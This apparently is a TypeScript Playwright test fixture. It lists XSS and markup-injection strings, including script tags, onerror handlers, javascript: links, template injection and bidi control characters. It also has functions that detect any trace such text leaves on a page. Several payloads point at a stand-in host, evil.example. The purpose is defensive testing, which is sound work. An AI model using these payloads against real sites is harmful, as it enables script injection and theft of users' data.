// Texts that try to become code or markup. Each would leave a trace that a test finds: a variable, a dialog, a request to another host,
// or an element with the class `from-text`.
import type { Page } from 'playwright-core';

export const CORPUS: readonly string[] = [
  '<script>window.pwned = 1</script>',
  '</script><script>window.pwned = 1</script>',
  '<img class="from-text" src=x onerror="window.pwned = 1">',
  '"><img class=from-text src=x onerror=alert(1)>',
  "' onmouseover='window.pwned=1' class='from-text",
  '<svg class="from-text" onload="window.pwned = 1"><script>window.pwned = 1</script></svg>',
  '<svg><style class="from-text"><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img class=from-text src onerror=alert(1)>',
  '<iframe class="from-text" src="javascript:alert(1)"></iframe>',
  '<object class="from-text" data="data:text/html,<script>alert(1)</script>"></object>',
  '<base class="from-text" href="http://evil.example/">',
  '<link class="from-text" rel=stylesheet href="http://evil.example/x.css">',
  '<meta class="from-text" http-equiv="refresh" content="0;url=http://evil.example/">',
  '<form class="from-text" action="http://evil.example/"><button>go</button></form>',
  '<details class="from-text" open ontoggle="window.pwned = 1">',
  '<template class="from-text"><script>window.pwned = 1</script></template>',
  '<style>@import "http://evil.example/x.css"; * { display: none }</style>',
  '<b class="from-text" style="background: url(http://evil.example/x.png)">bold</b>',
  '[click](javascript:window.pwned=1)',
  '[click](JaVaScRiPt:alert(1))',
  '[click](java\tscript:alert(1))',
  '[click](\u0001javascript:alert(1))',
  '[click](data:text/html,<script>alert(1)</script>)',
  '[click](vbscript:msgbox(1))',
  '[a](https://evil.example/ "onmouseover=alert(1)")',
  '![picture](http://evil.example/pixel.png)',
  '![x](x" onerror="alert(1))',
  '<http://evil.example/><javascript:alert(1)>',
  '[x]: javascript:alert(1)\n[x]',
  '```html\n<script class="from-text">window.pwned = 1</script>\n```',
  '`<img class="from-text" src=x onerror=alert(1)>`',
  '${window.pwned = 1} {{constructor.constructor("window.pwned=1")()}} #{1+1} <%= 1 %>',
  '&lt;img class=from-text src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;',
  '__proto__ constructor toString hasOwnProperty',
  'nul\u0000nul \u0007bell \u001b[31mred\u001b[0m',
  '\u202Egnp.exe\u202C \u2066isolated\u2069 \u200Bzero\u200Bwidth',
  'שלום עולם — مرحبا بالعالم — 123',
  'Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324a\u0334\u0335l\u0358\u0321g\u0347o',
  '\uD83D lone surrogate \uDE00 🧑‍🔧🏴‍☠️',
  'W'.repeat(5000),
];

/** Notes what a text that became code would leave behind. Runs before the page's own code. */
export function watchForCode(): void {
  const found: string[] = [];
  Object.assign(window, { found });
  document.addEventListener('securitypolicyviolation', (event) => found.push(`policy: ${event.violatedDirective} ${event.blockedURI} ${event.sample}`));
  for (const name of ['alert', 'confirm', 'prompt'] as const) Object.assign(window, { [name]: () => void found.push(name) });
}

/** Everything on the page that a text must not have made. Empty if all is well. */
export function traces(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const found = [...((window as unknown as { found: string[] }).found ?? ['the page was not watched'])];
    if ('pwned' in window) found.push('a text was run');
    // The page itself isolates names inside sentences, and uses nothing else of this kind.
    if (/[\u202a-\u202e\u2066\u2067]/.test(document.body.textContent ?? '')) found.push('a text turns the direction of another');
    for (const element of document.querySelectorAll('.from-text, iframe, object, embed, base, img, style, [onerror], [onload], [onmouseover], [ontoggle]')) found.push(`element: ${element.outerHTML.slice(0, 200)}`);
    for (const script of document.scripts) if (!script.src.startsWith(location.origin)) found.push(`script: ${script.outerHTML.slice(0, 200)}`);
    for (const link of document.querySelectorAll<HTMLElement>('[href], [src], [action], [formaction]')) {
      for (const name of ['href', 'src', 'action', 'formaction']) {
        const value = link.getAttribute(name);
        if (value !== null && !/^(https?:|lightning:|#|\/)/.test(value)) found.push(`link: ${name}=${value.slice(0, 100)}`);
      }
    }
    return found;
  });
}
